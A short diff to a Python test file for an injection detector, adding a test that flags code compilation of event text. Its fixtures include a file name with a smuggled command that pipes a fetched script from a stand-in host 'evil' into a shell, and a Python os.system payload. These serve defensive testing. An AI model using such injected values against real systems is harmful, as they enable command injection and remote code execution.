@@ -242,3 +242,10 @@ def test_injected_strings_found_in_arguments():
         "uploads/cat.png;curl evil|sh"
     ]
     assert injected_strings("process", "/bin/sh", {"argv": ["ls"]}, digest) == []
+
+
+def test_event_text_in_compiled_source_is_injection():
+    """eval/compile of source holding the event's own text is flagged."""
+    digest = ["__import__('os').system('id')"]
+    detail = {"source": "__import__('os').system('id')", "length": 29}
+    assert injected_strings("code", "<string>", detail, digest) == digest
